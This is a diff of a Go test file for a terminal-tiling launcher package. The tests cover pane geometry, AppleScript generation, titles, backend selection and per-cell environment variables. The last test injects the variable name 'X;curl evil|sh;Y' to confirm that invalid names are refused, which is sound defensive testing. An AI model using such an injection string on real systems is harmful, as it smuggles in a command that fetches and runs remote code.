@@ -1,29 +1,33 @@
 package launcher
 
 import (
+	"errors"
 	"strings"
 	"testing"
 )
 
 func TestBuildTilingScript_SingleProject(t *testing.T) {
-	bounds := screenBounds{X1: 0, Y1: 0, X2: 1920, Y2: 1080}
+	bounds := Rect{X1: 0, Y1: 0, X2: 1920, Y2: 1080}
 	rowCols := []int{3, 3}
-	termCmds := []string{
-		"cd '/projects/api' && clear && claude",
-		"cd '/projects/api' && clear && claude",
+	termCmds := make([]string, 6)
+	for i := range termCmds {
+		termCmds[i] = "cd '/projects/api' && clear && claude"
 	}
 
-	script, err := buildTilingScript(bounds, rowCols, termCmds)
+	script, err := buildTilingScript(bounds, rowCols, termCmds, nil)
 	if err != nil {
 		t.Fatalf("unexpected error: %v", err)
 	}
 
-	// Should contain the termCmdsList with both commands
+	// Should contain the termCmdsList with one command per cell
 	if !strings.Contains(script, "set termCmdsList to") {
 		t.Error("script missing termCmdsList declaration")
 	}
-	if !strings.Contains(script, "set thisCmd to item r of termCmdsList") {
-		t.Error("script missing per-row command selection")
+	if n := strings.Count(script, "&& claude"); n != 6 {
+		t.Errorf("termCmdsList has %d commands, want 6", n)
+	}
+	if !strings.Contains(script, "set thisCmd to item cellIdx of termCmdsList") {
+		t.Error("script missing per-cell command selection")
 	}
 	if !strings.Contains(script, "do script thisCmd") {
 		t.Error("script missing 'do script thisCmd'")
@@ -35,14 +39,14 @@ func TestBuildTilingScript_SingleProject(t *testing.T) {
 }
 
 func TestBuildTilingScript_SplitProjects(t *testing.T) {
-	bounds := screenBounds{X1: 0, Y1: 0, X2: 1920, Y2: 1080}
-	rowCols := []int{3, 3}
+	bounds := Rect{X1: 0, Y1: 0, X2: 1920, Y2: 1080}
+	rowCols := []int{1, 1}
 	termCmds := []string{
 		"cd '/projects/api' && clear && claude",
 		"cd '/projects/frontend' && clear && codex",
 	}
 
-	script, err := buildTilingScript(bounds, rowCols, termCmds)
+	script, err := buildTilingScript(bounds, rowCols, termCmds, nil)
 	if err != nil {
 		t.Fatalf("unexpected error: %v", err)
 	}
@@ -63,13 +67,13 @@ func TestBuildTilingScript_SplitProjects(t *testing.T) {
 }
 
 func TestBuildTilingScript_EscapesQuotes(t *testing.T) {
-	bounds := screenBounds{X1: 0, Y1: 0, X2: 1920, Y2: 1080}
-	rowCols := []int{2}
+	bounds := Rect{X1: 0, Y1: 0, X2: 1920, Y2: 1080}
+	rowCols := []int{1}
 	termCmds := []string{
 		`cd '/projects/my "project"' && clear`,
 	}
 
-	script, err := buildTilingScript(bounds, rowCols, termCmds)
+	script, err := buildTilingScript(bounds, rowCols, termCmds, nil)
 	if err != nil {
 		t.Fatalf("unexpected error: %v", err)
 	}
@@ -80,6 +84,23 @@ func TestBuildTilingScript_EscapesQuotes(t *testing.T) {
 	}
 }
 
+func TestBuildTilingScript_Titles(t *testing.T) {
+	bounds := Rect{X1: 0, Y1: 0, X2: 1920, Y2: 1080}
+	termCmds := []string{"cd '/p' && clear && claude", "cd '/p' && clear && make dev"}
+
+	script, err := buildTilingScript(bounds, []int{2}, termCmds, []string{"", "dev server"})
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	if !strings.Contains(script, `set termTitlesList to { "", "dev server" }`) {
+		t.Errorf("script missing per-cell titles:\n%s", script)
+	}
+	if !strings.Contains(script, "set custom title of selected tab of window 1 to thisTitle") {
+		t.Error("script should apply non-empty titles")
+	}
+}
+
 func TestShellQuote(t *testing.T) {
 	tests := []struct {
 		input string
@@ -96,3 +117,150 @@ func TestShellQuote(t *testing.T) {
 		}
 	}
 }
+
+type fakeBackend struct {
+	bounds Rect
+	err    error
+}
+
+func (fakeBackend) Name() string                  { return "fake" }
+func (f fakeBackend) DetectBounds() (Rect, error) { return f.bounds, f.err }
+func (fakeBackend) Script(p Plan) (string, error) { return "", nil }
+func (fakeBackend) Run(p Plan) error              { return nil }
+
+func TestNewPlan_CellsAndRects(t *testing.T) {
+	b := fakeBackend{bounds: Rect{X1: 0, Y1: 0, X2: 1200, Y2: 800}}
+	plan := NewPlan(b, Options{
+		ProjectDirs: []string{"/projects/api", "/projects/web"},
+		RowCols:     []int{3, 2},
+		Commands:    []string{"claude", ""},
+	})
+
+	if len(plan.Cells) != 5 {
+		t.Fatalf("got %d cells, want 5", len(plan.Cells))
+	}
+	first := plan.Cells[0]
+	if first.Rect != (Rect{X1: 0, Y1: 0, X2: 400, Y2: 400}) {
+		t.Errorf("first cell rect = %+v", first.Rect)
+	}
+	last := plan.Cells[4]
+	if last.Row != 1 || last.Col != 1 {
+		t.Errorf("last cell at row %d col %d, want 1,1", last.Row, last.Col)
+	}
+	if last.Rect != (Rect{X1: 600, Y1: 400, X2: 1200, Y2: 800}) {
+		t.Errorf("last cell rect = %+v", last.Rect)
+	}
+	if last.Dir != "/projects/web" || last.Command != "" {
+		t.Errorf("last cell = %q %q, want bottom project without tool", last.Dir, last.Command)
+	}
+	if got := first.ShellLine(); got != "cd '/projects/api' && clear && claude" {
+		t.Errorf("ShellLine() = %q", got)
+	}
+}
+
+func TestNewPlan_FallbackBounds(t *testing.T) {
+	b := fakeBackend{err: errors.New("no screen")}
+	plan := NewPlan(b, Options{ProjectDirs: []string{"/p"}, RowCols: []int{2}})
+	if plan.Bounds != fallbackBounds {
+		t.Errorf("Bounds = %+v, want fallback %+v", plan.Bounds, fallbackBounds)
+	}
+}
+
+func TestNewBackend(t *testing.T) {
+	b, err := NewBackend("")
+	if err != nil {
+		t.Fatalf("NewBackend(\"\"): %v", err)
+	}
+	if b.Name() != DefaultBackend {
+		t.Errorf("default backend = %q, want %q", b.Name(), DefaultBackend)
+	}
+	if _, err := NewBackend("nope"); err == nil {
+		t.Error("NewBackend(\"nope\") should fail")
+	}
+}
+
+func TestPlanSplits(t *testing.T) {
+	plan := NewPlan(fakeBackend{}, Options{ProjectDirs: []string{"/p"}, RowCols: []int{2, 3}})
+	got := plan.splits()
+	want := []split{
+		{From: 0, To: 2, Below: true, Percent: 50},
+		{From: 0, To: 1, Percent: 50},
+		{From: 2, To: 3, Percent: 66},
+		{From: 3, To: 4, Percent: 50},
+	}
+	if len(got) != len(want) {
+		t.Fatalf("got %d splits, want %d: %+v", len(got), len(want), got)
+	}
+	for i := range want {
+		if got[i] != want[i] {
+			t.Errorf("split %d = %+v, want %+v", i, got[i], want[i])
+		}
+	}
+}
+
+func TestPlanDescribe(t *testing.T) {
+	plan := NewPlan(fakeBackend{bounds: Rect{X1: 0, Y1: 0, X2: 1000, Y2: 500}}, Options{
+		ProjectDirs: []string{"/projects/api", "/projects/web"},
+		RowCols:     []int{2, 1},
+		Commands:    []string{"claude", ""},
+	})
+
+	got := plan.Describe("fake")
+	for _, want := range []string{
+		"Backend: fake",
+		"Bounds:  (0,0)-(1000,500)",
+		"1,2   (500,0)-(1000,250)  /projects/api  claude",
+		"2,1   (0,250)-(1000,500)  /projects/web  -",
+	} {
+		if !strings.Contains(got, want) {
+			t.Errorf("Describe() missing %q:\n%s", want, got)
+		}
+	}
+}
+
+func TestNewPlan_PerCell(t *testing.T) {
+	plan := NewPlan(fakeBackend{}, Options{
+		RowCols: []int{2, 2},
+		Cells: []CellSpec{
+			{Dir: "/projects/api", Command: "claude"},
+			{Dir: "/projects/api", Command: "codex"},
+			{Dir: "/projects/api", Command: "go test ./... -watch", Title: "tests"},
+			{Dir: "/projects/web", Command: "npm run dev", Env: map[string]string{"PORT": "3000"}},
+		},
+	})
+
+	if len(plan.Cells) != 4 {
+		t.Fatalf("got %d cells, want 4", len(plan.Cells))
+	}
+	if plan.Cells[1].Command != "codex" || plan.Cells[2].Title != "tests" {
+		t.Errorf("cells not taken from Options.Cells: %+v", plan.Cells)
+	}
+	last := plan.Cells[3]
+	if last.Row != 1 || last.Col != 1 {
+		t.Errorf("last cell at row %d col %d, want 1,1", last.Row, last.Col)
+	}
+	if got := last.ShellLine(); got != "cd '/projects/web' && export PORT='3000' && clear && npm run dev" {
+		t.Errorf("ShellLine() = %q", got)
+	}
+	if got := last.Program(); got != `export PORT='3000'; npm run dev; exec "${SHELL:-sh}"` {
+		t.Errorf("Program() = %q", got)
+	}
+}
+
+func TestCellProgram_PlainShell(t *testing.T) {
+	c := Cell{CellSpec: CellSpec{Dir: "/p"}}
+	if got := c.Program(); got != "" {
+		t.Errorf("Program() = %q, want empty for a plain shell", got)
+	}
+}
+
+func TestCellExports_InvalidNames(t *testing.T) {
+	c := Cell{CellSpec: CellSpec{Dir: "/p", Env: map[string]string{"X;curl evil|sh;Y": "1", "OK": "2"}}}
+	if got := c.ShellLine(); got != "cd '/p' && export OK='2' && clear" {
+		t.Errorf("ShellLine() = %q, want the invalid name left out", got)
+	}
+	err := Launch(Options{RowCols: []int{1}, Cells: []CellSpec{c.CellSpec}, Backend: "tmux"})
+	if err == nil || !strings.Contains(err.Error(), "not a valid variable name") {
+		t.Errorf("Launch() = %v, want the env name refused", err)
+	}
+}